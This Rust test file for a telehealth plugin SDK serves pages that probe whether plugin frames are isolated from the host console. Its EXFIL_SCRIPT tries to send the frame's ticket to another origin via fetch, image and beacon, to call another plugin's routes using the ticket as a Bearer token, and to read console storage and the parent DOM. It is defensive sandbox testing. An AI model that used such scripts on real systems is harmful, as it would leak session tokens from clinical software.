//! TEST ONLY: a vendor's screens, served by the plugin's HTTP handler, for
//! the consoles' plugin frames (ADR 0011). Not a reference plugin.
//!
//! | route | page |
//! | --- | --- |
//! | `GET /` | greets the caller; a relative link, a form, and a script that reports whether it can reach the console's storage or DOM |
//! | `POST /notes` | stores the form's `note` for the hospital (kv) and shows it with who saved it |
//! | `GET /notes` | the stored note |
//! | `GET /exfil?to=PORT` | a page whose script tries to send its URL (with the frame's ticket) to `http://127.0.0.1:PORT` and to another plugin's routes, and fetches its own JSON route; it reports each outcome and the policy violations in `window.probe` |
//! | `GET /api/note`, `POST /api/note` `{"note"}` | the stored note as JSON; store one from JSON |
use vtelehealth_plugin_sdk::{Error, Plugin, Request, Response, export_plugin, identity, json, kv};

struct Pages;

/// The caller's display name, or "anonymous".
fn caller() -> String {
    identity::current()
        .principal
        .map_or_else(|| "anonymous".to_owned(), |p| p.name)
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn page(title: &str, body: &str) -> Response {
    let html = format!(
        "<!doctype html><html lang=\"vi\"><meta charset=\"utf-8\"><title>{}</title><body>{body}</body></html>",
        escape(title)
    );
    Response::bytes(200, "text/html; charset=utf-8", html.into_bytes())
}

/// `application/x-www-form-urlencoded` value of `name`.
fn form_value(body: &[u8], name: &str) -> Option<String> {
    let text = std::str::from_utf8(body).ok()?;
    text.split('&').find_map(|pair| {
        let (k, v) = pair.split_once('=')?;
        (k == name).then(|| percent_decode(&v.replace('+', " ")))
    })
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = bytes
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u8::from_str_radix(h, 16).ok());
        match (bytes[i], hex) {
            (b'%', Some(b)) => {
                out.push(b);
                i += 3;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

const PROBE_SCRIPT: &str = "<script>\
const r = [];\
try { r.push('storage:' + (window.sessionStorage.getItem('vth.token') ? 'token-visible' : 'empty')); } catch (e) { r.push('storage:blocked'); }\
try { r.push('parent:' + (window.parent.document.body ? 'reachable' : 'none')); } catch (e) { r.push('parent:blocked'); }\
document.getElementById('probe').textContent = r.join(' ');\
</script>";

/// Every way out a page's script has, tried with the frame's ticket (its
/// URL path), then its own JSON route, GET and POST. `to`: another origin's
/// port. Each outcome goes to `window.probe.out`, each policy violation to
/// `window.probe.violations`; `window.probe.done` when all have settled.
const EXFIL_SCRIPT: &str = r#"<script>
const probe = { out: {}, violations: [], done: false };
window.probe = probe;
document.addEventListener('securitypolicyviolation', (e) => probe.violations.push(e.effectiveDirective + ' ' + e.blockedURI));
const port = new URLSearchParams(location.search).get('to');
const other = 'http://127.0.0.1:' + port;
const secret = encodeURIComponent(location.pathname);
const tryit = async (name, f) => { try { probe.out[name] = 'sent ' + (await f()); } catch (e) { probe.out[name] = 'blocked'; } };
(async () => {
  await tryit('other-origin-fetch', async () => (await fetch(other + '/fetch?t=' + secret, { mode: 'no-cors' })).type);
  await tryit('other-origin-image', () => new Promise((ok, fail) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => fail(new Error('x')); i.src = other + '/img?t=' + secret; }));
  try { probe.out['other-origin-beacon'] = navigator.sendBeacon(other + '/beacon', secret) ? 'queued' : 'refused'; } catch (e) { probe.out['other-origin-beacon'] = 'blocked'; }
  await tryit('other-plugin-post', async () => (await fetch('/hospitals/bv-a/plugins/hostile/echo', { method: 'POST', mode: 'no-cors', body: secret })).type);
  await tryit('other-plugin-bearer', async () => (await fetch('/hospitals/bv-a/plugins/hostile/whoami', { headers: { authorization: 'Bearer ' + location.pathname.split('/')[3] } })).status);
  await tryit('own-json-post', async () => { const r = await fetch('api/note', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: 'from the page' }) }); return r.status + ' ' + (await r.json()).note; });
  await tryit('own-json-get', async () => { const r = await fetch('api/note'); return r.status + ' ' + (await r.json()).note; });
  probe.done = true;
})();
</script>"#;

impl Plugin for Pages {
    fn handle(req: Request) -> Result<Response, Error> {
        match (req.method(), req.segments().as_slice()) {
            ("GET", []) => Ok(page(
                "page-probe",
                &format!(
                    "<h1 id=\"greeting\">Xin chào {}</h1>\
                     <p id=\"probe\">script not run</p>\
                     <form method=\"post\" action=\"notes\"><label>Ghi chú <input name=\"note\" id=\"note\"></label>\
                     <button type=\"submit\" id=\"save\">Lưu</button></form>\
                     <p><a id=\"notes-link\" href=\"notes\">Ghi chú đã lưu</a></p>{PROBE_SCRIPT}",
                    escape(&caller())
                ),
            )),
            ("POST", ["notes"]) => {
                let note = form_value(&req.body, "note").unwrap_or_default();
                let saved = format!("{note} ({})", caller());
                kv::set("note", saved.as_bytes())?;
                Ok(page(
                    "saved",
                    &format!(
                        "<p id=\"saved\">Đã lưu: {}</p><p><a href=\"./\">Quay lại</a></p>",
                        escape(&saved)
                    ),
                ))
            }
            ("GET", ["notes"]) => {
                let note = kv::get("note")?.map(|b| String::from_utf8_lossy(&b).into_owned());
                Ok(page(
                    "notes",
                    &format!(
                        "<p id=\"note-text\">{}</p>",
                        escape(&note.unwrap_or_default())
                    ),
                ))
            }
            ("GET", ["exfil"]) => Ok(page(
                "exfil",
                &format!("<p id=\"exfil\">probing</p>{EXFIL_SCRIPT}"),
            )),
            ("GET", ["api", "note"]) => {
                let note = kv::get("note")?.map(|b| String::from_utf8_lossy(&b).into_owned());
                Ok(Response::ok_json(
                    &json!({ "note": note.unwrap_or_default(), "by": caller() }),
                ))
            }
            ("POST", ["api", "note"]) => {
                let body: vtelehealth_plugin_sdk::serde_json::Value = req.json()?;
                let note = body["note"].as_str().unwrap_or_default().to_owned();
                kv::set("note", note.as_bytes())?;
                Ok(Response::ok_json(&json!({ "note": note, "by": caller() })))
            }
            _ => Err(Error::not_found(format!("no page {}", req.path()))),
        }
    }
}

export_plugin!(Pages);
